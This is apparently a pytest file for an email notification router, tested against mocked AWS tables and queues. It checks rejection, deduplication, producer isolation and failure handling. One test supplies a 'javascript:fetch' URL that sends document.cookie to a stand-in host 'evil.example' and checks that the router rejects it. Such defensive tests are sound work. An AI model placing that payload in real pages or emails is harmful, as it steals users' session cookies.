"""The router end to end against moto (tables, queues) with the fixture batch of real EventBridge-to-SQS
shapes, and its failure semantics: rejections to the DLQ, duplicates, partial send failures, throttling,
UnprocessedKeys, a failing enrichment function, and the API-call budget of a large batch."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from moto import mock_aws

from notification_handlers.event_fields import MalformedEventError
from notification_handlers.service import (
    catalog,
    channel_switches,
    contract,
    dynamodb_batch,
    idempotency,
    router,
)
from notification_handlers.service.idempotency import Claim, Deduplicator
from notification_handlers.service.log import logger
from notification_handlers.service.partial_batch import EntireBatchFailedError
from tests.unit.conftest import FakeLambdaContext, capture_logs, load_event
from tests.unit.service_fakes import (
    answer_invoke,
    create_queue,
    create_table,
    fail_attempts,
    no_sleep,
    receive_all,
    record_calls,
    scan,
    withhold,
)
from tools.emulator.account import DEFAULT_REGION as REGION

ORDER_SHIPPED = {
    "critical": False,
    "channels": ["email"],
    "fallback_locale": "en",
    "templates": {
        "en": {
            "email": {
                "subject": "Order {{order_id}} shipped",
                "text": "Hi {{ user.display_name }}, {{carrier.name}} has {{ items.0.qty }} item(s).",
                "html": "<p>Hi {{ user.display_name }}, {{ carrier.name }}</p>",
            }
        },
        "de": {
            "email": {"subject": "Bestellung {{order_id}} versandt", "text": "Hallo {{user.display_name}}"}
        },
    },
}
SECURITY_ALERT = {
    "critical": True,
    "allowed_sources": ["com.example.shop", "com.example.identity"],
    "channels": ["email"],
    "fallback_locale": "en",
    "templates": {"en": {"email": {"subject": "Sign-in from {{ip}}", "text": "{{notification.id}}"}}},
}
BATCH = "notification_service_ingest_batch"
ORDER, ALERT, UNKNOWN, BAD = (record["messageId"] for record in load_event(BATCH)["Records"])
SHOP = "com.example.shop"  # the fixtures' source


def nid(key: str, notification_type: str = "order_shipped", source: str = SHOP) -> str:
    """The notification id of a producer's key (docs/notification-service.md, section 1)."""
    return contract.notification_id(source, notification_type, key)


ORDER_ID = nid("order-A-1001-shipped")
ALERT_ID = nid("0c2a5b9e-3e1f-4d6c-8a0b-2f9d1c7e4a55", "security_alert")


class Service:
    """The service's tables and queues in moto, and the router's environment pointing at them."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        for table, keys in {
            "catalog": ("catalog_id", "notification_type"),
            "users": ("user_id", None),
            "preferences": ("user_id", None),
            "delivery-log": ("notification_id", "delivery_key"),
            "idempotency": ("id", None),
        }.items():
            create_table(table, *keys)
        self.email_queue = create_queue("email")
        self.dlq = create_queue("ingest-dlq")
        env = {
            "CATALOG_TABLE": "catalog",
            "USERS_TABLE": "users",
            "PREFERENCES_TABLE": "preferences",
            "DELIVERY_LOG_TABLE": "delivery-log",
            "IDEMPOTENCY_TABLE": "idempotency",
            "AWS_LAMBDA_FUNCTION_NAME": "svc-router",
            "CHANNEL_QUEUE_URLS": json.dumps({"email": self.email_queue}),
            "REJECTED_EVENTS_QUEUE_URL": self.dlq,
        }
        for name, value in env.items():
            monkeypatch.setenv(name, value)
        self.put_type("order_shipped", ORDER_SHIPPED)
        self.put_type("security_alert", SECURITY_ALERT)
        dynamodb_batch.batch_write(
            "users",
            [
                {"user_id": "u-1", "display_name": "Ana", "email": "ana@example.com", "locale": "de-AT"},
                {"user_id": "u-2", "display_name": "Bob <b>", "locale": "fr"},
                {"user_id": "u-3", "display_name": "Cy"},
            ],
        )
        dynamodb_batch.batch_write(
            "preferences",
            [
                {"user_id": "u-1", "muted": True},
                {"user_id": "u-3", "opt_outs": {"order_shipped": ["email"]}},
            ],
        )

    def put_type(self, name: str, definition: Any) -> None:
        text = definition if isinstance(definition, str) else json.dumps(definition)
        dynamodb_batch.batch_write(
            "catalog", [{"catalog_id": "notification-types", "notification_type": name, "definition": text}]
        )
        catalog._CACHE.clear()

    def emails(self) -> list[dict[str, Any]]:
        return [json.loads(message["Body"]) for message in receive_all(self.email_queue)]

    def rejected(self) -> list[dict[str, Any]]:
        return receive_all(self.dlq)


@pytest.fixture
def service(monkeypatch: pytest.MonkeyPatch) -> Iterator[Service]:
    with mock_aws(), no_sleep(monkeypatch):
        idempotency.deduplicator_from_env.cache_clear()
        catalog._CACHE.clear()
        channel_switches._CACHE.clear()
        yield Service(monkeypatch)
        idempotency.deduplicator_from_env.cache_clear()
        catalog._CACHE.clear()
        channel_switches._CACHE.clear()


def failures(response: dict[str, Any]) -> set[str]:
    return {failure["itemIdentifier"] for failure in response["batchItemFailures"]}


def batch(*bodies: dict[str, Any]) -> dict[str, Any]:
    """An SQS event of EventBridge events, in the fixture's record shape."""
    template = load_event(BATCH)["Records"][0]
    return {
        "Records": [
            {**template, "messageId": f"m-{n}", "body": json.dumps(body)} for n, body in enumerate(bodies)
        ]
    }


def event(notification_id: str, recipients: list[str], **data: Any) -> dict[str, Any]:
    document = json.loads(load_event(BATCH)["Records"][0]["body"])
    document["id"] = f"evt-{notification_id}"
    document["detail"] = {"recipients": recipients, "data": {"order_id": notification_id, **data}}
    document["detail"]["data"].setdefault("carrier", {"name": "DHL"})
    document["detail"]["data"].setdefault("items", [{"qty": 1}])
    return document


def test_fixture_batch_routes_rejects_and_logs(service: Service) -> None:
    context = FakeLambdaContext(function_name="svc-router")
    with capture_logs(logger) as logs:
        response = router.handler(load_event(BATCH), context)
    assert response == {"batchItemFailures": []}

    emails = sorted(service.emails(), key=lambda m: (m["notification_type"], m["user_id"]))
    assert [(m["notification_type"], m["user_id"], m["locale"]) for m in emails] == [
        ("order_shipped", "u-2", "en"),  # fr has no template: the fallback
        ("security_alert", "u-1", "en"),  # critical: muted u-1 still gets it
    ]
    # u-1 is muted and u-3 opted out of order_shipped email: both logged, not sent.
    order = emails[0]
    assert order["notification_id"] == ORDER_ID  # the idempotencyKey, namespaced by source and type
    assert order["critical"] is False and order["version"] == 1 and order["channel"] == "email"
    assert order["content"] == {
        "subject": "Order A-1001 shipped",
        "text": "Hi Bob <b>, DHL & Co <Express> has 2 item(s).",
        "html": "<p>Hi Bob &lt;b&gt;, DHL &amp; Co &lt;Express&gt;</p>",
    }
    alert = emails[1]
    assert alert["notification_id"] == ALERT_ID  # no key: the event id, namespaced
    assert alert["content"] == {"subject": "Sign-in from 198.51.100.7", "text": alert["notification_id"]}
    assert alert["critical"] is True

    log_rows = {(row["user_id"], row["status"], row["reason"]) for row in scan("delivery-log")}
    assert log_rows == {
        ("u-1", "suppressed_preference", "muted"),
        ("u-3", "suppressed_preference", "opted_out"),
    }

    rejected = {
        json.loads(m["Body"])["id"]: {k: v["StringValue"] for k, v in m["MessageAttributes"].items()}
        for m in service.rejected()
    }
    records = {r["messageId"]: r for r in load_event(BATCH)["Records"]}
    assert set(rejected) == {
        json.loads(records[UNKNOWN]["body"])["id"],
        json.loads(records[BAD]["body"])["id"],
    }
    unknown = rejected[json.loads(records[UNKNOWN]["body"])["id"]]
    assert unknown == {
        "reason": "detail-type 'no_such_type' is not a notification type in the catalog",
        "error_type": "CatalogError",
    }
    bad = rejected[json.loads(records[BAD]["body"])["id"]]
    assert bad["reason"].startswith("detail.recipients[0] must match pattern")
    assert bad["error_type"] == "MalformedEventError"

    lines = logs()
    assert all("body" not in line and "recipients" not in line for line in lines)
    routed = [line for line in lines if line["message"] == "notification routed"]
    assert {line["notification_id"] for line in routed} == {ORDER_ID, ALERT_ID}
    # A producer finds its notification in the logs by its own source and key.
    assert {(line["source"], line["idempotency_key"]) for line in routed} == {
        (SHOP, "order-A-1001-shipped"),
        (SHOP, "0c2a5b9e-3e1f-4d6c-8a0b-2f9d1c7e4a55"),
    }
    assert not any("notification_id" in line for line in lines if line["message"] == "catalog loaded")
    # Like every handler, the router's lines carry the invocation (function name, cold start).
    assert {line["function_name"] for line in lines} == {"svc-router"}
    claims = {item["status"] for item in scan("idempotency")}
    assert claims == {"COMPLETED"}


def test_rejected_bodies_are_forwarded_unchanged(service: Service) -> None:
    original = load_event(BATCH)
    router.handler(original, FakeLambdaContext())
    bodies = {m["Body"] for m in service.rejected()}
    expected = {r["body"] for r in original["Records"] if r["messageId"] in (UNKNOWN, BAD)}
    assert bodies == expected


def test_a_redelivered_batch_sends_nothing_twice(service: Service) -> None:
    assert router.handler(load_event(BATCH), FakeLambdaContext()) == {"batchItemFailures": []}
    first = len(service.emails())
    with capture_logs(logger) as logs:
        assert router.handler(load_event(BATCH), FakeLambdaContext()) == {"batchItemFailures": []}
    assert first == 2 and service.emails() == []
    duplicates = [line for line in logs() if line.get("outcome") == "duplicate"]
    assert {line["notification_id"] for line in duplicates} == {ORDER_ID, ALERT_ID}


def test_same_notification_twice_in_one_batch_sends_once(service: Service) -> None:
    one = event("n-1", ["u-2"])
    again = {**one, "id": "another-event-id", "detail": {**one["detail"], "idempotencyKey": "evt-n-1"}}
    response = router.handler(batch(one, again), FakeLambdaContext())
    assert response == {"batchItemFailures": []}
    assert [m["user_id"] for m in service.emails()] == ["u-2"]


# --- finding 4: producers are isolated --------------------------------------------------------------


def from_source(
    document: dict[str, Any], source: str, key: str | None = None, **changes: Any
) -> dict[str, Any]:
    """``document`` as another producer (``source``) sends it, with ``key`` as its idempotencyKey."""
    detail = {**document["detail"], **({"idempotencyKey": key} if key else {})}
    return {**document, "id": f"evt-{source}-{key}", "source": source, "detail": detail, **changes}


def alert(recipients: list[str]) -> dict[str, Any]:
    document = event("a", recipients)
    document["detail-type"] = "security_alert"
    document["detail"]["data"] = {"ip": "198.51.100.7"}
    return document


def test_producers_are_isolated_the_same_key_from_two_producers_or_types_is_two_notifications(
    service: Service,
) -> None:
    shop = from_source(event("n-1", ["u-2"]), SHOP, "order-1")
    marketplace = from_source(event("n-1", ["u-2"]), "com.example.marketplace", "order-1")
    shop_alert = from_source(alert(["u-2"]), SHOP, "order-1")
    assert router.handler(batch(shop, marketplace, shop_alert), FakeLambdaContext()) == {
        "batchItemFailures": []
    }
    # A redelivery of each (a new event id, the same key) is a duplicate of its own producer's only.
    again = [{**document, "id": "redelivered"} for document in (shop, marketplace, shop_alert)]
    assert router.handler(batch(*again), FakeLambdaContext()) == {"batchItemFailures": []}

    sent = sorted((m["notification_type"], m["notification_id"]) for m in service.emails())
    assert sent == sorted(
        [
            ("order_shipped", nid("order-1")),
            ("order_shipped", nid("order-1", source="com.example.marketplace")),
            ("security_alert", nid("order-1", "security_alert")),
        ]
    )
    assert len({notification_id for _, notification_id in sent}) == 3


def test_producers_are_isolated_another_producer_cannot_pre_empt_a_critical_notification(
    service: Service,
) -> None:
    # The attacker may send order_shipped (open to every source) and sends first, reusing the key the
    # identity service will use for its critical alert; then it tries the critical type itself.
    attacker = "com.example.marketing"
    first = router.handler(
        batch(from_source(event("n-1", ["u-1"]), attacker, "alert-42")), FakeLambdaContext()
    )
    second = router.handler(batch(from_source(alert(["u-1"]), attacker, "alert-42")), FakeLambdaContext())
    assert first == second == {"batchItemFailures": []}
    service.emails()  # drop the attacker's own order_shipped (u-1 is muted: none); the alert is what counts
    victim = router.handler(
        batch(from_source(alert(["u-1"]), "com.example.identity", "alert-42")), FakeLambdaContext()
    )

    assert victim == {"batchItemFailures": []}
    [delivered] = service.emails()
    assert delivered["notification_type"] == "security_alert" and delivered["user_id"] == "u-1"
    assert delivered["notification_id"] == nid("alert-42", "security_alert", "com.example.identity")
    [refused] = service.rejected()
    assert json.loads(refused["Body"])["source"] == attacker


def test_producers_are_isolated_a_critical_type_from_an_unlisted_source_is_rejected_with_its_reason(
    service: Service,
) -> None:
    spoofed = from_source(alert(["u-1", "u-2"]), "com.example.marketing", "alert-7")
    neighbours = [event("n-1", ["u-2"]), from_source(alert(["u-2"]), "com.example.identity", "alert-8")]
    with capture_logs(logger) as logs:
        response = router.handler(batch(neighbours[0], spoofed, neighbours[1]), FakeLambdaContext())

    assert response == {"batchItemFailures": []}  # rejected is processed: not retried
    assert sorted((m["notification_type"], m["user_id"]) for m in service.emails()) == [
        ("order_shipped", "u-2"),
        ("security_alert", "u-2"),
    ]
    [rejected] = service.rejected()
    assert rejected["Body"] == json.dumps(spoofed)  # unchanged
    attributes = {k: v["StringValue"] for k, v in rejected["MessageAttributes"].items()}
    assert attributes == {
        "reason": "source_not_allowed: source 'com.example.marketing' may not send notification type "
        "'security_alert' (not in its allowed_sources)",
        "error_type": "SourceNotAllowedError",
    }
    # Refused before its claim: the id is not occupied and nothing about it reaches the delivery log.
    refused_id = nid("alert-7", "security_alert", "com.example.marketing")
    assert refused_id not in {row["notification_id"] for row in scan("delivery-log")}
    assert Deduplicator("idempotency", 3600, "svc-router").claim(refused_id) is Claim.CLAIMED
    [line] = [line for line in logs() if line["message"] == "event rejected"]
    assert line["level"] == "WARNING" and line["source"] == "com.example.marketing"
    assert line["notification_id"] == refused_id and line["reason"] == attributes["reason"]


def test_a_notification_in_progress_elsewhere_is_retried(service: Service) -> None:
    Deduplicator("idempotency", 3600, "svc-router").claim(nid("evt-n-1"), remaining_time_in_millis=60_000)
    response = router.handler(batch(event("n-1", ["u-2"]), event("n-2", ["u-2"])), FakeLambdaContext())
    assert failures(response) == {"m-0"}
    assert [m["notification_id"] for m in service.emails()] == [nid("evt-n-2")]


def test_a_render_error_rejects_the_event_and_releases_its_claim(service: Service) -> None:
    broken = event("n-1", ["u-2"])
    del broken["detail"]["data"]["carrier"]
    nested = event("n-2", ["u-2"], order_id={"not": "a scalar"})
    response = router.handler(batch(broken, nested, event("n-3", ["u-2"])), FakeLambdaContext())
    assert response == {"batchItemFailures": []}
    assert [m["notification_id"] for m in service.emails()] == [nid("evt-n-3")]
    reasons = sorted(m["MessageAttributes"]["reason"]["StringValue"] for m in service.rejected())
    assert reasons == [
        "templates.en.email.subject: variable 'order_id' is an object, not a string, number or boolean",
        "templates.en.email.text: variable 'carrier.name' is missing",
    ]
    dedup = Deduplicator("idempotency", 3600, "svc-router")
    assert dedup.claim(nid("evt-n-1")) is Claim.CLAIMED  # released: a redrive after a fix goes through
    assert dedup.claim(nid("evt-n-3")) is Claim.ALREADY_DONE


def test_a_profile_variable_of_a_user_without_profile_fails_only_that_event(service: Service) -> None:
    response = router.handler(batch(event("n-1", ["u-404"]), event("n-2", ["u-2"])), FakeLambdaContext())
    assert response == {"batchItemFailures": []}
    (rejected,) = service.rejected()
    assert "user.display_name" in rejected["MessageAttributes"]["reason"]["StringValue"]


def test_a_broken_catalog_definition_rejects_only_its_events(service: Service) -> None:
    service.put_type("order_shipped", {**ORDER_SHIPPED, "channels": ["pigeon"]})
    response = router.handler(load_event(BATCH), FakeLambdaContext())
    assert response == {"batchItemFailures": []}
    assert [m["notification_type"] for m in service.emails()] == ["security_alert"]
    reasons = [m["MessageAttributes"]["reason"]["StringValue"] for m in service.rejected()]
    assert any("'order_shipped' has an invalid catalog definition: channel 'pigeon'" in r for r in reasons)


def test_one_partial_send_failure_fails_only_its_record(service: Service) -> None:
    def split(params: dict[str, Any]) -> tuple[dict[str, Any], Any]:
        held = [
            e for e in params["Entries"] if json.loads(e["MessageBody"])["notification_id"] == nid("evt-n-2")
        ]
        return {**params, "Entries": [e for e in params["Entries"] if e not in held]}, [e["Id"] for e in held]

    def merge(parsed: dict[str, Any], held: Any) -> None:
        parsed.setdefault("Failed", []).extend(
            {"Id": i, "SenderFault": False, "Code": "InternalError", "Message": "x"} for i in held
        )

    withhold("sqs", "SendMessageBatch", split, merge, times=99)
    events = [event(f"n-{n}", ["u-2"]) for n in range(4)]
    response = router.handler(batch(*events), FakeLambdaContext())
    assert failures(response) == {"m-2"}
    assert sorted(m["notification_id"] for m in service.emails()) == sorted(
        nid(f"evt-n-{n}") for n in (0, 1, 3)
    )
    dedup = Deduplicator("idempotency", 3600, "svc-router")
    assert dedup.claim(nid("evt-n-2")) is Claim.CLAIMED  # released for the retry
    assert dedup.claim(nid("evt-n-1")) is Claim.ALREADY_DONE


@pytest.mark.parametrize(("code", "status"), [("ThrottlingException", 400), ("InternalServerError", 500)])
def test_transient_faults_are_absorbed_by_sdk_retries(service: Service, code: str, status: int) -> None:
    fail_attempts("dynamodb", "Query", [(code, status)])
    fail_attempts("dynamodb", "BatchGetItem", [(code, status), (code, status)])
    fail_attempts("sqs", "SendMessageBatch", [(code, status)])
    response = router.handler(load_event(BATCH), FakeLambdaContext())
    assert response == {"batchItemFailures": []}
    assert len(service.emails()) == 2


def test_unprocessed_prefetch_keys_are_retried(service: Service) -> None:
    def split(params: dict[str, Any]) -> tuple[dict[str, Any], Any]:
        (table, request), *_ = params["RequestItems"].items()
        return {**params, "RequestItems": {table: {**request, "Keys": request["Keys"][:1]}}}, (
            table,
            request,
            request["Keys"][1:],
        )

    def merge(parsed: dict[str, Any], held: Any) -> None:
        table, request, keys = held
        if keys:
            parsed["UnprocessedKeys"] = {table: {**request, "Keys": keys}}

    withhold("dynamodb", "BatchGetItem", split, merge, times=2)
    response = router.handler(batch(event("n-1", ["u-1", "u-2", "u-3"])), FakeLambdaContext())
    assert response == {"batchItemFailures": []}
    # u-1 muted and u-3 opted out must still be honoured: the preferences were all read.
    assert [m["user_id"] for m in service.emails()] == ["u-2"]


def test_an_href_variable_that_is_not_https_or_mailto_rejects_the_event(service: Service) -> None:
    """A producer's ``javascript:`` URL reached the mail's ``href`` (escaped, live)."""
    linked = {
        "channels": ["email"],
        "fallback_locale": "en",
        "templates": {
            "en": {"email": {"subject": "s", "text": "t", "html": '<a href="{{ tracking_url }}">Track</a>'}}
        },
    }
    service.put_type("order_tracked", linked)
    hostile, fine = event("n-1", ["u-2"]), event("n-2", ["u-2"])
    hostile["detail-type"] = fine["detail-type"] = "order_tracked"
    hostile["detail"]["data"]["tracking_url"] = "javascript:fetch('//evil.example/'+document.cookie)"
    fine["detail"]["data"]["tracking_url"] = "https://track.example.com/n-2"

    assert router.handler(batch(hostile, fine), FakeLambdaContext()) == {"batchItemFailures": []}

    [sent] = service.emails()
    assert sent["notification_id"] == nid("evt-n-2", "order_tracked")
    assert sent["content"]["html"] == '<a href="https://track.example.com/n-2">Track</a>'
    [rejected] = service.rejected()
    assert json.loads(rejected["Body"])["id"] == "evt-n-1"
    assert rejected["MessageAttributes"]["reason"]["StringValue"] == (
        "templates.en.email.html: variable 'tracking_url' in the href attribute must make an absolute"
        " https: or mailto: URL, got a URL with scheme javascript:"
    )
    assert rejected["MessageAttributes"]["error_type"]["StringValue"] == "TemplateError"


def test_delivery_log_rows_of_a_failed_write_are_written_by_the_retry(service: Service) -> None:
    """For the router: its suppression rows are written before any fan-out and
    before the claims complete, so a failed write releases the claims and the retry writes the rows
    (a guard: the router already worked this way)."""
    fail_attempts("dynamodb", "BatchWriteItem", [("InternalServerError", 500)] * 3)
    with pytest.raises(EntireBatchFailedError):
        router.handler(batch(event("n-1", ["u-1", "u-2", "u-3"])), FakeLambdaContext())
    assert service.emails() == [] and scan("delivery-log") == []

    assert router.handler(batch(event("n-1", ["u-1", "u-2", "u-3"])), FakeLambdaContext()) == {
        "batchItemFailures": []
    }
    assert [m["user_id"] for m in service.emails()] == ["u-2"]
    assert {(row["user_id"], row["status"]) for row in scan("delivery-log")} == {
        ("u-1", "suppressed_preference"),
        ("u-3", "suppressed_preference"),
    }


def test_an_unreadable_prefetch_fails_every_record_and_releases_claims(service: Service) -> None:
    fail_attempts("dynamodb", "BatchGetItem", [("ProvisionedThroughputExceededException", 400)] * 3)
    with pytest.raises(EntireBatchFailedError):  # every record failed: the invocation fails
        router.handler(batch(event("n-1", ["u-2"]), event("n-2", ["u-2"])), FakeLambdaContext())
    assert service.emails() == []
    assert Deduplicator("idempotency", 3600, "svc-router").claim(nid("evt-n-1")) is Claim.CLAIMED


def test_an_unreadable_catalog_fails_the_batch(service: Service) -> None:
    fail_attempts("dynamodb", "Query", [("AccessDeniedException", 400)])
    with pytest.raises(EntireBatchFailedError):
        router.handler(load_event(BATCH), FakeLambdaContext())
    assert service.emails() == [] and service.rejected() == []


def test_a_dlq_that_cannot_be_reached_fails_the_rejected_record(service: Service) -> None:
    real = router.send_batch

    def flaky(url: str, messages: Any) -> set[str]:
        return {m.entry_id for m in messages} if url == service.dlq else real(url, messages)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(router, "send_batch", flaky)
        response = router.handler(load_event(BATCH), FakeLambdaContext())
    assert failures(response) == {UNKNOWN, BAD}


def test_a_large_batch_costs_few_calls(service: Service) -> None:
    events = [event(f"n-{n}", [f"user-{n}"]) for n in range(250)]
    dynamodb_batch.batch_write(
        "users", [{"user_id": f"user-{n}", "display_name": f"U{n}"} for n in range(250)]
    )
    sqs_calls = record_calls("sqs")
    dynamodb_calls = record_calls("dynamodb")
    response = router.handler(batch(*events), FakeLambdaContext())
    assert response == {"batchItemFailures": []}
    assert sqs_calls.count("SendMessageBatch") == 25
    assert dynamodb_calls.count("BatchGetItem") == 6  # 250 users: 3 for profiles, 3 for preferences
    assert dynamodb_calls.count("Query") == 2  # the catalog and the channel switches, each cached
    emails = service.emails()
    assert len(emails) == 250
    assert {m["content"]["text"].split(",")[0] for m in emails} == {f"Hi U{n}" for n in range(250)}


def test_custom_enrichment_function(service: Service, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ENRICHMENT_FUNCTION_ARN", f"arn:aws:lambda:{REGION}:123456789012:function:profiles")

    def profiles(request: dict[str, Any]) -> tuple[bytes, str | None]:
        users = {
            uid: {"display_name": f"Custom {uid}", "attributes": {"tier": "gold"}}
            for uid in request["user_ids"]
        }
        return json.dumps({"users": users}).encode(), None

    requests = answer_invoke(profiles)
    dynamodb_calls = record_calls("dynamodb")
    events = [event(f"n-{n}", [f"user-{n}"]) for n in range(150)]
    assert router.handler(batch(*events), FakeLambdaContext()) == {"batchItemFailures": []}
    assert [len(r["user_ids"]) for r in requests] == [100, 50]
    assert all(r["version"] == 1 for r in requests)
    assert {m["content"]["text"].split(",")[0] for m in service.emails()} == {
        f"Hi Custom user-{n}" for n in range(150)
    }
    # With a custom function, the users table is not read (only preferences: 2 calls).
    assert all("users" not in p["RequestItems"] for p in dynamodb_calls.params("BatchGetItem"))


@pytest.mark.parametrize(
    ("answer", "function_error"),
    [(b'{"errorMessage": "boom"}', "Unhandled"), (b'{"users": []}', None), (b"not json", None)],
)
def test_a_failing_enrichment_function_fails_the_batch(
    service: Service, monkeypatch: pytest.MonkeyPatch, answer: bytes, function_error: str | None
) -> None:
    monkeypatch.setenv("ENRICHMENT_FUNCTION_ARN", f"arn:aws:lambda:{REGION}:123456789012:function:profiles")
    answer_invoke(lambda _request: (answer, function_error))
    with pytest.raises(EntireBatchFailedError):
        router.handler(batch(event("n-1", ["u-2"])), FakeLambdaContext())
    assert service.emails() == []
    assert Deduplicator("idempotency", 3600, "svc-router").claim(nid("evt-n-1")) is Claim.CLAIMED


def test_missing_records_is_an_explicit_error(service: Service) -> None:
    with capture_logs(logger) as logs, pytest.raises(MalformedEventError, match="Records is missing"):
        router.handler({}, FakeLambdaContext())
    [line] = [line for line in logs() if line["message"] == "Rejected malformed event"]
    assert line["level"] == "ERROR"
    assert line["decision"] == "rejected"
    assert line["problem"].startswith("Records is missing or not a list")


def test_a_duplicate_in_the_batch_shares_the_fate_of_its_first_record(service: Service) -> None:
    def split(params: dict[str, Any]) -> tuple[dict[str, Any], Any]:
        return {**params, "Entries": params["Entries"][1:]}, [params["Entries"][0]["Id"]]

    def merge(parsed: dict[str, Any], held: Any) -> None:
        parsed.setdefault("Failed", []).extend(
            {"Id": i, "SenderFault": True, "Code": "InvalidMessageContents", "Message": "x"} for i in held
        )

    withhold("sqs", "SendMessageBatch", split, merge, times=1)
    one = event("n-1", ["u-2"])
    again = {**one, "id": "another-event-id", "detail": {**one["detail"], "idempotencyKey": "evt-n-1"}}
    response = router.handler(batch(one, again, event("n-2", ["u-2"])), FakeLambdaContext())
    assert failures(response) == {"m-0", "m-1"}  # both records of evt-n-1 come back; evt-n-2 went out
    assert [m["notification_id"] for m in service.emails()] == [nid("evt-n-2")]
